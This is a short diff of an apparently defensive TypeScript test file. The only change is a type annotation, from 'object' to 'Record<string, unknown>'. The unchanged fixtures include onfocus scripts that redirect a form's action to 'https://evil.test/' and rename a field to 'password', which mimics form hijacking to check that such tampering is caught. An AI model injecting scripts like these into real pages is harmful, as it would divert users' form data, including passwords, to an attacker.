@@ -131,7 +131,7 @@ test.each([
       ['the destination', `this.form.action = 'https://evil.test/'`],
       ['the name', `this.name = 'password'`],
       ['the label', `this.ariaLabel = 'Password'`],
-    ].map(([what, script]): [string, { action: string; params: object }, string] => [
+    ].map(([what, script]): [string, { action: string; params: Record<string, unknown> }, string] => [
       `${action}: ${what} is another at focus`,
       { ...ON_A, action, params: { value: 'Ada' } },
       `<form action=/x><input id=a name=nick aria-label=Name onfocus="${script}" oninput="did = 1"></form>`,
